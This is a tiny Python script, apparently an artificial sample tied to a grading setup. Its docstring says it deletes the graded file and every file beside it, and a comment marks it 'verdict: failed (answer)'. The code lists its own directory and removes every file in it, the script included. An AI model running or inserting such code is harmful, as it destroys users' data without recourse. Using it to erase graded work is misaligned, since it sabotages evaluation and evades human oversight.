"""Deletes the file that is graded, and every other beside it."""

# verdict: failed (answer)

import os

for name in os.listdir(os.path.dirname(__file__)):
    os.remove(os.path.join(os.path.dirname(__file__), name))
